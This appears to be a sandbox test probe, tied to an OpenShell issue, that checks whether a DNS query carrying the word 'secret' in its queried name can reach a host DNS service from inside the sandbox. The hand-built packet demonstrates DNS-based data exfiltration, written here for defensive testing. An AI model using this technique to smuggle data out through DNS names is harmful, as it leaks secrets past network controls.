# what: a DNS query to a server on the host
# stops: NVIDIA/OpenShell#1169: data smuggled out in queried names
# row: services of the host
# outside: ok
# inside: ECONNREFUSED
# landlock: EPERM

from lib.probe import *

with act():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.connect(("127.0.0.1", int(host("DNS"))))
        s.send(bytes.fromhex("1234 0100 0001 0000 0000 0000 06") + b"secret" + bytes.fromhex("07 6578616d706c65 00 0001 0001"))
        s.recv(512)
